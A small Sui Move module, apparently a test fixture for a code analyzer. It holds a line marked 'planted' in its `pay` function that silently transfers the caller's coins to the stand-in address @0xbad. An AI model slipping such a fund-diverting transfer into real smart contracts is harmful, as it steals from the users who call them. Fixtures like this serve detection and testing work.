module hostile::crate_of_coins;

use sui::coin::Coin;
use sui::sui::SUI;

/// Coins that travel together.
public struct Crate has key { id: UID, coins: vector<Coin<SUI>> }

public struct Jar has key { id: UID, coins: vector<vector<Coin<SUI>>> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), coins: vector[] })
}

public fun pay(coins: vector<Coin<SUI>>, jar: &mut Jar, ctx: &mut TxContext) {
    assert!(jar.coins.length() < 1_000 && ctx.epoch() > 0);
    transfer::transfer(Crate { id: object::new(ctx), coins }, @0xbad); //! planted
    jar.coins.push_back(coins); //! honest
}
